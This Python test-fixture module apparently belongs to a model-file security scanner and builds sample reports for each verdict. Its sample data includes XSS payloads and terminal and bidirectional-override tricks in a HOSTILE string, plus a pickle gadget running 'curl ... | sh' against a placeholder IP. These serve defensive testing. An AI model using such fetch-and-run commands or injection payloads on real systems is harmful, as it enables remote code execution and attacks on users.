"""Reports of each verdict, put together by hand, for tests and pictures of the gate and the renderers."""

from __future__ import annotations

from nbguard.artifact.model import Artifact, ArtifactFile, LoadRequest
from nbguard.policy import Decision
from nbguard.report.model import (
    CodeFile,
    Contract,
    FileReport,
    Finding,
    GlobalUse,
    NotScanned,
    Program,
    Report,
    Severity,
    Verdict,
)

HOSTILE = (
    "<img src=x onerror=\"document.title='PWNED'\"><script>document.title='PWNED'</script>"
    "$\\href{javascript:document.title='PWNED'}{x}$ \x1b[31mred\u202etxt.exe"
)
"""Markup, mathematics, a terminal sequence and a bidirectional override in one name."""

REQUEST = LoadRequest(loader="torch.load", source="model.bin", kind="path")

_TENSOR = GlobalUse(
    "torch._utils",
    "_rebuild_tensor_v2",
    (("torch._utils", "_rebuild_tensor_v2"),),
    ("named", "reduce"),
    "data",
    "Puts a tensor together from its storage.",
)
_SYSTEM = GlobalUse("posix", "system", (("posix", "system"),), ("reduce",), "gadget", "Runs a shell command.")
_PIPELINE = GlobalUse(
    "sklearn.pipeline",
    "Pipeline",
    (("sklearn.pipeline", "Pipeline"),),
    ("build", "newobj"),
    "library",
    "A scikit-learn estimator that is only made and given state.",
)

_GADGET = Finding(
    "pickle.gadget",
    Severity.CRITICAL,
    "model.bin",
    "archive/data.pkl @ 0x12",
    "Calls posix.system, which runs a shell command.",
    "from posix import system\n_var0 = system('curl -s http://203.0.113.7/a | sh')\nresult = _var0",
    "The command runs with your rights, before the load has returned anything.",
    "Do not load this file. Ask the publisher for a safetensors file, or load another model.",
)
_CODE = Finding(
    "code.remote",
    Severity.MEDIUM,
    "modeling_tiny.py",
    "",
    "The repository brings Python of its own, which loading would run.",
    "auto_map: AutoModel → modeling_tiny.TinyModel",
    "Whoever can change the repository decides what that code does.",
    "Read the file. If you accept it, exactly these bytes run and no others.",
)
_TRUNCATED = Finding(
    "pickle.truncated",
    Severity.HIGH,
    "model.bin",
    "@ 0x4f2",
    "The pickle ends in the middle of an instruction.",
    "",
    "What stands behind the place where reading failed is unknown.",
    "Fetch the file again and compare its checksum with the publisher's.",
)


def report(verdict: Verdict, *, target: str = "model.bin", hostile: str = "") -> Report:
    """A report of `verdict`; with `hostile`, that text stands everywhere a model could have put it."""
    digest = {Verdict.SAFE: "5a", Verdict.REVIEW: "4e", Verdict.UNVERIFIABLE: "07", Verdict.DANGER: "da"}[verdict] * 32
    name = hostile or "model.bin"
    size = 438_004_736
    artifact = Artifact(hostile or target, "path", (ArtifactFile(name, size, "torch-zip", f"sha256:{digest}"),))
    findings = {
        Verdict.SAFE: (),
        Verdict.REVIEW: (_CODE,),
        Verdict.UNVERIFIABLE: (_TRUNCATED,),
        Verdict.DANGER: (_GADGET, _CODE),
    }[verdict]
    if hostile:
        findings = (*findings, *(Finding(hostile, s, *[hostile] * 6) for s in (Severity.CRITICAL, Severity.LOW)))
    uses = {
        Verdict.SAFE: (_TENSOR,),
        Verdict.REVIEW: (_TENSOR, _PIPELINE),
        Verdict.UNVERIFIABLE: (_TENSOR,),
        Verdict.DANGER: (_TENSOR, _SYSTEM),
    }[verdict]
    if hostile:
        uses = (*uses, GlobalUse(hostile, hostile, ((hostile, hostile),), ("reduce",), "unknown", hostile))
    regions = {"data": size - 18_240, "code": 18_240}
    if verdict is Verdict.UNVERIFIABLE:
        regions = {"data": 201_300_000, "code": 18_240, "unknown": size - 201_318_240}
    return Report(
        artifact.target,
        artifact,
        (
            FileReport(name, size, "torch-zip", verdict, sha256=digest, regions=regions),
            FileReport("README.md", 4_211, "text", Verdict.SAFE, inert=True),
        ),
        findings,
        Contract(
            programs=(Program(name, "archive/data.pkl", 0, 18_240, digest, "torch-zip"),),
            globals=uses,
            code=(CodeFile("modeling_tiny.py", digest),) if verdict is Verdict.REVIEW else (),
        ),
        (NotScanned("model.bin", "reading stopped at byte 1,266"),) if verdict is Verdict.UNVERIFIABLE else (),
        _SUMMARY[verdict] if not hostile else (hostile,),
        {"path": hostile or "/home/ada/models/model.bin", "modified": "2026-03-02 14:05"},
        "2026.3",
    )


_SUMMARY = {
    Verdict.SAFE: ("Builds 148 tensors (438 MB) and runs no code.",),
    Verdict.REVIEW: (
        "Builds 148 tensors (438 MB).",
        "Runs Python that comes with the repository: modeling_tiny.py.",
        "Makes a scikit-learn Pipeline and gives it its state.",
    ),
    Verdict.UNVERIFIABLE: ("Reading stopped at byte 1,266 of model.bin: what comes after is unknown.",),
    Verdict.DANGER: (
        "Runs the shell command “curl -s http://203.0.113.7/a | sh” while it loads.",
        "Builds 148 tensors (438 MB), so the model would seem to work.",
    ),
}


def decision(verdict: Verdict, *, offers: tuple[str, ...] = ("once", "always", "refuse")) -> Decision:
    """What the balanced policy says to a person who is there."""
    reason = {
        Verdict.SAFE: "Explained data; one click loads it.",
        Verdict.REVIEW: "A person has to look at code and library objects before they load.",
        Verdict.UNVERIFIABLE: "No policy lets content load that could not be read.",
        Verdict.DANGER: "It may only load after its findings were read and ticked.",
    }[verdict]
    if verdict is Verdict.UNVERIFIABLE:
        return Decision("deny", "blocked", (), ("balanced", "unverifiable"), reason)
    form = {Verdict.SAFE: "compact", Verdict.REVIEW: "full", Verdict.DANGER: "danger"}[verdict]
    return Decision("ask", form, offers, ("balanced", verdict.word), reason)  # type: ignore[arg-type]
